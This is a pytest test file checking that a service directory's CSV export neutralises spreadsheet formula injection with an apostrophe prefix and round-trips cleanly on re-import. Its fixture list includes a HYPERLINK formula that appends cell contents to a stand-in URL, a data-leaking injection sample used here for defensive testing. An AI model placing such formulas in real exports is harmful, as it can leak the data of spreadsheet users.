"""/annuaire/export.csv never carries a live spreadsheet formula, and an export imported back
gives the original names (core.csv_files)."""

import csv
import io

import pytest

from observatoire.directory import selectors
from observatoire.directory.importer import import_text, read_rows
from observatoire.directory.models import Service, Structure

FORMULAS = ['=HYPERLINK("http://x"&A1,"Cliquez ici")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.fixture
def renamed(demo):
    """Six public services of six structures, each structure named like a formula, its service
    too (with a word after it: data·inclusion wants at least three characters in a name)."""
    services, structures = [], set()
    for service in selectors.public_services().order_by("slug"):
        if service.structure_id not in structures:
            services.append(service)
            structures.add(service.structure_id)
        if len(services) == len(FORMULAS):
            break
    for service, name in zip(services, FORMULAS, strict=True):
        Service.objects.filter(pk=service.pk).update(nom=service_name(name))
        Structure.objects.filter(pk=service.structure_id).update(nom=name)
    return {service.slug: name for service, name in zip(services, FORMULAS, strict=True)}


def service_name(formula: str) -> str:
    return f"{formula} écoute"


def exported(client) -> tuple[str, list[dict]]:
    text = client.get("/annuaire/export.csv").content.decode("utf-8")
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


def test_names_starting_like_a_formula_leave_neutralised(renamed, client):
    _, rows = exported(client)
    by_id = {row["id"]: row for row in rows}
    for slug, name in renamed.items():
        assert by_id[slug]["nom"] == "'" + service_name(name)
        assert by_id[slug]["structure_nom"] == "'" + name
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_the_format_is_unchanged_otherwise(renamed, client):
    text, rows = exported(client)
    assert text.startswith("source,id,structure_id,") and text.endswith("\r\n")
    row = next(r for r in rows if r["id"] == next(iter(renamed)))
    assert row["thematiques"].startswith("[") and row["ovff_exemple"] in ("true", "false")
    schema = client.get("/annuaire/schema.json").json()
    assert schema["dialect"] == {"delimiter": ",", "header": True, "doubleQuote": True}
    assert "apostrophe" in schema["description"]


def test_a_telephone_number_is_text_and_comes_back_as_it_was(demo, client):
    _, rows = exported(client)
    phones = [row["telephone"] for row in rows if row["telephone"]]
    assert phones and all(not phone.startswith("+") for phone in phones)
    assert any(phone.startswith("'+33") for phone in phones)


def test_an_export_imported_back_gives_the_original_names(renamed, client):
    text, _ = exported(client)
    read = {row.data["id"]: row.data for row in read_rows(text=text, json_format=False)}
    for slug, name in renamed.items():
        assert read[slug]["nom"] == service_name(name) and read[slug]["structure_nom"] == name
    phones = {
        service.slug: service.telephone
        for service in selectors.public_services().exclude(telephone="")
    }
    assert phones and all(read[slug]["telephone"] == phone for slug, phone in phones.items())

    structures = Structure.objects.count()
    counts = import_text(text=text, file_name="annuaire-ovff34.csv")
    assert counts["created"] == 0
    assert Structure.objects.count() == structures  # no "'=…" structure created
    for slug, name in renamed.items():
        service = Service.objects.select_related("structure").get(slug=slug)
        assert service.nom == service_name(name) and service.structure.nom == name
    assert {s.slug: s.telephone for s in Service.objects.filter(slug__in=phones)} == phones
    assert exported(client)[0] == text


def test_a_quote_not_before_a_formula_start_is_kept(demo):
    header = "source,id,structure_nom,nom,description"
    text = f"{header}\r\novff34,x,'Structure,'Nom,''=deux\r\n"
    (row,) = read_rows(text=text, json_format=False)
    assert row.data["structure_nom"] == "'Structure" and row.data["nom"] == "'Nom"
    assert row.data["description"] == "'=deux"
